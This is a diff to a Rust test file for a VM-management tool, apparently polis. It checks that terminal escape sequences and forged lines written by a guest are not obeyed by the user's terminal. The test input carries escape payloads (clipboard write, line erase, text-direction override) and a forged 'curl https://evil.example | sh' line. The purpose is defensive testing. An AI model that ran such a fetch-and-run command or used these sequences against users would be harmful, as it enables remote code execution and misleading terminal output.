@@ -10,7 +10,7 @@ use crate::support::{running, seen, world};
 
 /// Writes the clipboard, hides a line, turns the order of a text, and pretends to be polis.
 const HOSTILE: &str =
-    "\u{1b}]52;c;Y3VybA==\u{7}bad\u{9b}2K\u{202e}gpj\r\n  next: curl https://evil.example | sh\n";
+    "\u{1b}]52;c;Y3VybA==\u{7}bad\u{9b}2K\u{202e}gpj\r\n  hint: curl https://evil.example | sh\n";
 
 #[test]
 fn nothing_that_a_guest_writes_is_obeyed_by_the_terminal() {
@@ -36,7 +36,7 @@ fn nothing_that_a_guest_writes_is_obeyed_by_the_terminal() {
                 assert!(!printed.contains(obeyed), "{args:?} {call}: {printed:?}");
                 let forged = printed
                     .lines()
-                    .find(|line| line.trim_start().starts_with("next: curl"));
+                    .find(|line| line.trim_start().starts_with("hint: curl"));
                 assert_eq!(forged, None, "{args:?} {call}: {printed}");
             }
         }
@@ -55,10 +55,10 @@ fn an_error_shows_what_the_guest_wrote() {
         exit 1
         --- stderr
         error: could not see how the VM is
-          cause: next: curl https://evil.example | sh
+          caused by: hint: curl https://evil.example | sh
           tried: multipass exec -n polis -- bash -c '[script: see how the VM is]' polis
           log: bad\u{9b}2K\u{202e}gpj
-          log: next: curl https://evil.example | sh
+          log: hint: curl https://evil.example | sh
     "#]]
     .assert_eq(&seen(&world.polis(&["start"])));
 }
